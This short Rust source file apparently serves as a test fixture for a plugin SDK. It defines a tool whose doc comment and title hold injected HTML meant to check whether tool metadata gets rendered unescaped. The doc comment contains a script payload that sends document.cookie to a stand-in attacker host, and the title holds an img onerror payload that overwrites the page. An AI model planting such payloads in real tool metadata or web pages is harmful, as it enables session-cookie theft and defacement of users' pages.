//! Says script where text belongs, in its contract.

use bulkhead_sdk::prelude::*;

/// <script>document.body.innerHTML = fetch('//evil.example/' + document.cookie)</script> is what this is called.
#[tool(title = "<img src=x onerror=\"document.body.innerHTML='planted'\">")]
fn planted() -> &'static str {
    "got: called"
}

plugin!(planted);
